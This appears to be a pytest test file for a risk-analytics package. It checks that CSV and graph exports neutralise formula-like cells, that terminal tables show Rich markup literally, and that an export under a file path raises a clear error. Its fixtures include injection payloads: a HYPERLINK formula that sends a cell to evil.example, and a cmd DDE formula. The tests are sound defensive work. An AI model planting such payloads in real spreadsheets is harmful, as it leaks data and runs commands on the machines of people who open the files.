"""Attacks through outputs: formulas in CSVs meant for a spreadsheet, markup in terminal tables, export paths
under a file (issue 24 items 6 and 10)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import networkx as nx
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console

from ctxrisk.analytics.graph.export import export
from ctxrisk.cli.formats import emit
from ctxrisk.pipelines.errors import ValidationError
from ctxrisk.pipelines.spreadsheet import FORMULA_TRIGGERS, neutralise_cell, neutralise_frame, write_csv

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_like_cell_gets_a_quote(value) -> None:
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Bank", "", "a=b", "'=already", 5, -3.5, None])
def test_other_cells_are_unchanged(value) -> None:
    assert neutralise_cell(value) == value


def test_numbers_stay_numbers_and_text_is_neutralised() -> None:
    frame = pd.DataFrame(
        {"name": ["=cmd|' /C calc'!A0", "Bank"], "count": [-1, 7], "id": pd.Series(["-P1", "P2"], dtype="string")}
    )
    out = neutralise_frame(frame)
    assert out["name"].tolist() == ["'=cmd|' /C calc'!A0", "Bank"]
    assert out["count"].tolist() == [-1, 7]
    assert out["id"].tolist() == ["'-P1", "P2"]
    assert frame["name"].iloc[0].startswith("=")  # the caller's frame is not changed


@given(st.lists(st.text(min_size=0, max_size=8), min_size=1, max_size=6))
def test_no_written_cell_starts_with_a_trigger(values) -> None:
    out = io.StringIO()
    write_csv(pd.DataFrame({"text": values}), out)
    cells = [row[0] for row in csv.reader(io.StringIO(out.getvalue(), newline=""), strict=True)][1:]
    assert not any(c.startswith(FORMULA_TRIGGERS) for c in cells)


def test_hotspot_and_location_csv_quote_formula_names() -> None:
    frame = pd.DataFrame({"area_name": ['=HYPERLINK("http://x","y")', "@evil", "Bank"], "events": [5, 6, 7]})
    out = io.StringIO()
    emit(frame, fmt="csv", out=out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert [r[0] for r in rows[1:]] == ['\'=HYPERLINK("http://x","y")', "'@evil", "Bank"]
    assert [r[1] for r in rows[1:]] == ["5", "6", "7"]


def test_table_output_shows_markup_as_written() -> None:
    frame = pd.DataFrame({"area_name": ["[bold red]alarm[/bold red]", "[/x]"], "events": [1, 2]})
    buffer = io.StringIO()
    emit(frame, fmt="table", out=buffer, console=Console(file=buffer, width=120, color_system=None))
    text = buffer.getvalue()
    assert "[bold red]alarm[/bold red]" in text and "[/x]" in text


def _graph() -> nx.Graph:
    g = nx.Graph()
    g.add_node("-P1", age_band="14-15", roles=["victim"], n_events=2)
    g.add_node("=P2", age_band="16-17", roles=[], n_events=1)
    evidence = [{"relation": "co-occurrence", "weight": 1.0, "event_id": "+E1", "grading": None}]
    g.add_edge("-P1", "=P2", relations=["co-occurrence"], weight=1.0, evidence=evidence)
    return g


def test_i2_export_quotes_ids_starting_with_a_trigger(tmp_path: Path) -> None:
    written = export(_graph(), tmp_path / "i2", format="i2")
    cells = [c for path in written for row in csv.reader(path.open()) for c in row]
    assert "'-P1" in cells and "'=P2" in cells and "'+E1" in cells
    assert not any(c.startswith(FORMULA_TRIGGERS) for c in cells)


def test_graph_export_under_a_file_is_a_clear_error(tmp_path: Path) -> None:
    blocker = tmp_path / "report.txt"
    blocker.write_text("x")
    for fmt, target in [("graphml", blocker / "g.graphml"), ("i2", blocker / "i2")]:
        with pytest.raises(ValidationError, match=r"report.txt is a file, not a folder"):
            export(nx.Graph(), target, format=fmt)
